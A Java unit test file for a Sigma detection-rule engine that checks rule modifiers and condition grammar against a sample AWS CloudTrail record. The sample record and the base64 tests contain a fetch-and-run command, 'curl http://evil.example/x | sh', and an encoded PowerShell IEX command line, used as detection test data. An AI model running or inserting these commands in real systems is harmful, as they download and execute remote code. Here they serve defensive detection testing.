package dev.strata.detect.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Each modifier and condition form on small rules and records written for these tests from the Sigma specification
 * 2.0 (SigmaHQ/sigma-specification: "Sigma rules specification" and the modifiers appendix). The records are
 * CloudTrail-shaped JSON (field names as in the AWS CloudTrail record contents documentation).
 */
class SigmaEngineTest {
  static final String RECORD =
      "{\"eventVersion\":\"1.08\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"ListBuckets\","
          + "\"sourceIPAddress\":\"203.0.113.7\",\"userAgent\":\"aws-cli/2.15.0 Python/3.11 TruffleHog\","
          + "\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::111122223333:user/alice\",\"userName\":\"alice\"},"
          + "\"requestParameters\":{\"userName\":\"arn:aws:iam::111122223333:user/alice\",\"policyDocument\":\"{\\\"Effect\\\":\\\"Allow\\\"}\","
          + "\"maxResults\":50,\"dryRun\":false,\"tags\":[{\"key\":\"team\",\"value\":\"red\"},{\"key\":\"env\",\"value\":\"prod\"}],"
          + "\"commandLine\":\"powershell -enc SQBFAFgA\",\"script\":\"" + Base64.getEncoder().encodeToString("curl http://evil.example/x | sh".getBytes()) + "\"},"
          + "\"responseElements\":null,\"authorization.k8s.io/decision\":\"allow\","
          + "\"annotations\":{\"authorization.k8s.io/reason\":\"RBAC: allowed\"},\"errorMessage\":\"line1\\nline2\"}";

  static boolean matches(String detection) {
    return matches(detection, RECORD);
  }

  static boolean matches(String detection, String record) {
    SigmaEngine engine = new SigmaEngine(new SigmaRuleSet(List.of(rule(detection)), List.of()));
    return !engine.match("aws_cloudtrail", record).isEmpty();
  }

  static SigmaRule rule(String detection) {
    try {
      return SigmaRuleLoader.read(Path.of("test.yml"), yaml(detection));
    } catch (Exception e) {
      throw new AssertionError(e.getMessage(), e);
    }
  }

  static String yaml(String detection) {
    return "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nauthor: strata tests\nlevel: high\n"
        + "tags:\n  - attack.t1580\n  - attack.credential-access\nlogsource:\n  product: aws\n  service: cloudtrail\n"
        + "detection:\n" + detection.indent(2);
  }

  static String unsupported(String detection) {
    try {
      SigmaRuleLoader.read(Path.of("test.yml"), yaml(detection));
      return null;
    } catch (UnsupportedRuleException e) {
      return e.reason();
    } catch (Exception e) {
      return "exception " + e;
    }
  }

  @Test
  void plainValuesAreCaseInsensitiveEqualityAndMapsAreAnds() {
    assertThat(matches("sel:\n  eventName: listbuckets\n  eventSource: S3.AMAZONAWS.COM\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  eventName: ListBucket\ncondition: sel")).isFalse(); // equality, not prefix
    assertThat(matches("sel:\n  eventName: ListBuckets\n  eventSource: iam.amazonaws.com\ncondition: sel")).isFalse();
  }

  @Test
  void valueListsAreOrsAndListsOfMapsAreOrs() {
    assertThat(matches("sel:\n  eventName: [StopLogging, ListBuckets]\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  eventName: [StopLogging, DeleteTrail]\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  - eventName: StopLogging\n  - sourceIPAddress: 203.0.113.7\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  - eventName: StopLogging\n  - sourceIPAddress: 203.0.113.8\ncondition: sel")).isFalse();
  }

  @Test
  void wildcardsAndEscapes() {
    assertThat(matches("sel:\n  userAgent: 'aws-cli/*'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userAgent: '*trufflehog'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  eventName: 'List?uckets'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  eventName: 'List?ckets'\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  eventName: 'List*s'\ncondition: sel")).isTrue();
    // an escaped star is a star
    assertThat(matches("sel:\n  eventName: 'List\\*'\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  x: 'a\\*b'\ncondition: sel", "{\"eventName\":\"e\",\"x\":\"a*b\"}")).isTrue();
    assertThat(matches("sel:\n  x: 'a\\*b'\ncondition: sel", "{\"eventName\":\"e\",\"x\":\"aXb\"}")).isFalse();
    // a backslash before anything else is itself; \\ is one backslash (so \\* is a backslash, then a wildcard)
    assertThat(matches("sel:\n  x: 'C:\\Windows\\\\*'\ncondition: sel", "{\"eventName\":\"e\",\"x\":\"C:\\\\Windows\\\\cmd.exe\"}")).isTrue();
    assertThat(matches("sel:\n  x: 'C:\\Windows\\*'\ncondition: sel", "{\"eventName\":\"e\",\"x\":\"C:\\\\Windows\\\\cmd.exe\"}")).isFalse();
    assertThat(matches("sel:\n  x: 'C:\\\\Windows'\ncondition: sel", "{\"eventName\":\"e\",\"x\":\"C:\\\\Windows\"}")).isTrue();
  }

  @Test
  void containsStartswithEndswithAndAll() {
    assertThat(matches("sel:\n  userAgent|contains: TruffleHog\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userAgent|startswith: AWS-CLI\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userAgent|startswith: Python\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  userAgent|endswith: hog\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userAgent|contains|all: [aws-cli, Python, TruffleHog]\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userAgent|contains|all: [aws-cli, boto3]\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  userAgent|contains: [boto3, trufflehog]\ncondition: sel")).isTrue();
  }

  @Test
  void casedMakesMatchingCaseSensitive() {
    assertThat(matches("sel:\n  userAgent|contains|cased: TruffleHog\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userAgent|contains|cased: trufflehog\ncondition: sel")).isFalse();
  }

  @Test
  void nestedPathsDottedKeysAndArraysElementWise() {
    assertThat(matches("sel:\n  userIdentity.type: IAMUser\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.tags.value: prod\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.tags.value: dev\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  authorization.k8s.io/decision: allow\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  annotations.authorization.k8s.io/reason|startswith: RBAC\ncondition: sel")).isTrue();
    // an object compared as text is its compact JSON
    assertThat(matches("sel:\n  requestParameters|contains: '\"maxResults\":50'\ncondition: sel")).isTrue();
  }

  @Test
  void nullNumbersAndBooleans() {
    assertThat(matches("sel:\n  responseElements: null\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  errorCode: null\ncondition: sel")).isTrue(); // absent
    assertThat(matches("sel:\n  eventName: null\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  requestParameters.maxResults: 50\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  eventVersion: 1.08\ncondition: sel")).isTrue(); // "1.08" written as a number
    assertThat(matches("sel:\n  requestParameters.dryRun: false\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.dryRun: true\ncondition: sel")).isFalse();
  }

  @Test
  void regularExpressionsWithSubModifiers() {
    assertThat(matches("sel:\n  userIdentity.arn|re: ':user/[a-z]+$'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userIdentity.arn|re: ':USER/'\ncondition: sel")).isFalse(); // case-sensitive
    assertThat(matches("sel:\n  userIdentity.arn|re|i: ':USER/'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  errorMessage|re: '^line2$'\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  errorMessage|re|m: '^line2$'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  errorMessage|re: 'line1.line2'\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  errorMessage|re|s: 'line1.line2'\ncondition: sel")).isTrue();
    // leading dots: tried from the start only where that is the same answer
    assertThat(matches("sel:\n  userIdentity.arn|re: '.+:user/alice$'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userIdentity.arn|re: '.+arn:aws'\ncondition: sel")).isFalse(); // needs a char before
    assertThat(matches("sel:\n  errorMessage|re: '.*line2'\ncondition: sel")).isTrue(); // after the line break
    assertThat(matches("sel:\n  errorMessage|re: '.+2$'\ncondition: sel")).isTrue();
  }

  @Test
  void cidrExistsAndNumericComparisons() {
    assertThat(matches("sel:\n  sourceIPAddress|cidr: 203.0.113.0/24\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  sourceIPAddress|cidr: [10.0.0.0/8, 192.168.0.0/16]\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  x|cidr: 2001:db8::/32\ncondition: sel", "{\"x\":\"2001:db8::1\"}")).isTrue();
    assertThat(matches("sel:\n  x|cidr: 10.0.0.0/8\ncondition: sel", "{\"x\":\"AWS Internal\"}")).isFalse();
    assertThat(matches("sel:\n  userAgent|exists: true\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  errorCode|exists: false\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  responseElements|exists: true\ncondition: sel")).isFalse(); // null is not a value
    assertThat(matches("sel:\n  requestParameters.maxResults|gt: 49\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.maxResults|gt: 50\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  requestParameters.maxResults|gte: 50\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.maxResults|lt: 50\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  requestParameters.maxResults|lte: 50\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  eventVersion|gte: 1.05\ncondition: sel")).isTrue(); // a number written as text
  }

  @Test
  void base64AndBase64Offset() {
    assertThat(matches("sel:\n  requestParameters.script|base64: 'curl http://evil.example/x | sh'\ncondition: sel")).isTrue();
    // "http://evil" sits at byte offset 5 of the encoded text: only the offset forms find it
    assertThat(matches("sel:\n  requestParameters.script|base64|contains: 'http://evil'\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  requestParameters.script|base64offset|contains: 'http://evil'\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.script|base64offset|contains: 'wget'\ncondition: sel")).isFalse();
    // UTF-16LE ("wide") before encoding: powershell -enc SQBFAFgA is "IEX" in UTF-16LE
    assertThat(matches("sel:\n  requestParameters.commandLine|base64|wide|contains: IEX\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.commandLine|base64|contains: IEX\ncondition: sel")).isFalse();
  }

  @Test
  void windashTriesEveryDash() {
    assertThat(matches("sel:\n  requestParameters.commandLine|windash|contains: ' /enc '\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  requestParameters.commandLine|contains: ' /enc '\ncondition: sel")).isFalse();
    assertThat(DetectionCompiler.windash("-a x-y")).containsExactly("-a x-y", "/a x-y", "\u2013a x-y", "\u2014a x-y", "\u2015a x-y");
    assertThat(DetectionCompiler.windash("a - b /")).containsExactly("a - b /"); // no word after them: not options
    assertThat(DetectionCompiler.windash("/c -k")).hasSize(25);
  }

  @Test
  void fieldrefComparesTwoFieldsOfTheRecord() {
    assertThat(matches("sel:\n  userIdentity.arn|fieldref: requestParameters.userName\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel")).isFalse();
    assertThat(matches("sel:\n  requestParameters.userName|fieldref|endswith: userIdentity.userName\ncondition: sel")).isTrue();
    assertThat(matches("sel:\n  userIdentity.userName|fieldref: missing.field\ncondition: sel")).isFalse();
  }

  @Test
  void keywordsSearchTheWholeRecord() {
    assertThat(matches("keywords:\n  - trufflehog\n  - nothing-like-this\ncondition: keywords")).isTrue();
    assertThat(matches("keywords:\n  - nothing-like-this\ncondition: keywords")).isFalse();
    assertThat(matches("keywords:\n  '|all':\n    - trufflehog\n    - ListBuckets\ncondition: keywords")).isTrue();
    assertThat(matches("keywords:\n  '|all':\n    - trufflehog\n    - DeleteTrail\ncondition: keywords")).isFalse();
  }

  @Test
  void conditionGrammar() {
    String ids = "sel_a:\n  eventName: ListBuckets\nsel_b:\n  eventSource: s3.amazonaws.com\nsel_c:\n  eventName: DeleteTrail\n"
        + "filter:\n  userIdentity.type: AssumedRole\n_helper:\n  eventName: Nope\n";
    assertThat(matches(ids + "condition: sel_a and sel_b")).isTrue();
    assertThat(matches(ids + "condition: sel_a and sel_c")).isFalse();
    assertThat(matches(ids + "condition: sel_c or sel_a")).isTrue();
    assertThat(matches(ids + "condition: sel_a and not filter")).isTrue();
    assertThat(matches(ids + "condition: not sel_a")).isFalse();
    assertThat(matches(ids + "condition: not sel_c and sel_a")).isTrue(); // not binds tighter than and
    assertThat(matches(ids + "condition: sel_c and sel_a or sel_b")).isTrue(); // and binds tighter than or
    assertThat(matches(ids + "condition: sel_c and (sel_a or sel_b)")).isFalse();
    assertThat(matches(ids + "condition: 1 of sel_*")).isTrue();
    assertThat(matches(ids + "condition: all of sel_*")).isFalse();
    assertThat(matches(ids + "condition: 2 of sel_*")).isTrue();
    assertThat(matches(ids + "condition: 3 of sel_*")).isFalse();
    assertThat(matches(ids + "condition: all of sel_a*")).isTrue();
    assertThat(matches(ids + "condition: 1 of them")).isTrue();
    assertThat(matches(ids + "condition: all of them")).isFalse();
    assertThat(matches("sel_a:\n  eventName: ListBuckets\n_helper:\n  eventName: Nope\ncondition: all of them")).isTrue(); // _ excluded
    assertThat(matches(ids + "condition:\n  - sel_c\n  - sel_a and sel_b")).isTrue(); // a list is an or
    assertThat(matches(ids + "condition:\n  - sel_c\n  - filter")).isFalse();
    assertThat(matches(ids + "condition: sel_a and not 1 of filter*")).isTrue();
  }

  @Test
  void unsupportedRulesSayWhy() {
    assertThat(unsupported("sel:\n  eventName: ListBuckets\ncondition: sel | count() by sourceIPAddress > 5")).isEqualTo("aggregation");
    assertThat(unsupported("sel:\n  eventName: ListBuckets\ncondition: sel | near other")).isEqualTo("aggregation");
    assertThat(unsupported("sel:\n  eventName|sounds_like: ListBuckets\ncondition: sel")).isEqualTo("unsupported_modifier");
    assertThat(unsupported("sel:\n  eventName|expand: '%names%'\ncondition: sel")).isEqualTo("placeholder");
    assertThat(unsupported("sel:\n  eventName|contains|re: x\ncondition: sel")).isEqualTo("unsupported_modifier");
    assertThat(unsupported("sel:\n  eventName|i: x\ncondition: sel")).isEqualTo("unsupported_modifier");
    assertThat(unsupported("sel:\n  eventName: x\ncondition: other")).isEqualTo("invalid_rule");
    assertThat(unsupported("sel:\n  eventName: x\ncondition: 1 of filter_*")).isEqualTo("invalid_rule");
    assertThat(unsupported("sel:\n  eventName|re: '(['\ncondition: sel")).isEqualTo("invalid_rule");
    assertThat(unsupported("sel:\n  eventName: x\ncondition: (sel")).isEqualTo("invalid_rule");
    assertThatThrownBy(() -> SigmaRuleLoader.read(Path.of("c.yml"),
            "title: t\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1h\n"))
        .isInstanceOf(UnsupportedRuleException.class).hasMessageContaining("correlation");
    assertThatThrownBy(() -> SigmaRuleLoader.read(Path.of("w.yml"),
            "title: t\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel\n"))
        .isInstanceOf(UnsupportedRuleException.class).hasMessageContaining("windows");
  }

  @Test
  void matchesCarryTheRulesAttributionAndTheIndexKeepsOtherFormatsOut() throws Exception {
    SigmaRule r = rule("sel:\n  eventName: ListBuckets\ncondition: sel");
    SigmaEngine engine = new SigmaEngine(new SigmaRuleSet(List.of(r), List.of()));
    List<SigmaRule.Info> m = engine.match("aws_cloudtrail", RECORD);
    assertThat(m).hasSize(1);
    assertThat(m.get(0).id()).isEqualTo("00000000-0000-0000-0000-000000000001");
    assertThat(m.get(0).title()).isEqualTo("test rule");
    assertThat(m.get(0).severityId()).isEqualTo(4);
    assertThat(m.get(0).tactics()).containsExactly("credential_access");
    assertThat(m.get(0).credit()).isEqualTo("Sigma rule by strata tests, SigmaHQ, DRL-1.1");
    assertThat(engine.indexField("aws_cloudtrail")).isEqualTo("eventName");
    assertThat(engine.match("k8s_audit", RECORD)).isEmpty();
    assertThat(engine.match("aws_cloudtrail", "{\"eventName\":\"ListBuck")).isEmpty(); // cut record: no match, no error
    // a record inside an EventBridge envelope is unwrapped
    assertThat(engine.match("aws_cloudtrail", "{\"detail-type\":\"AWS API Call via CloudTrail\",\"detail\":" + RECORD + "}"))
        .hasSize(1);
  }
}
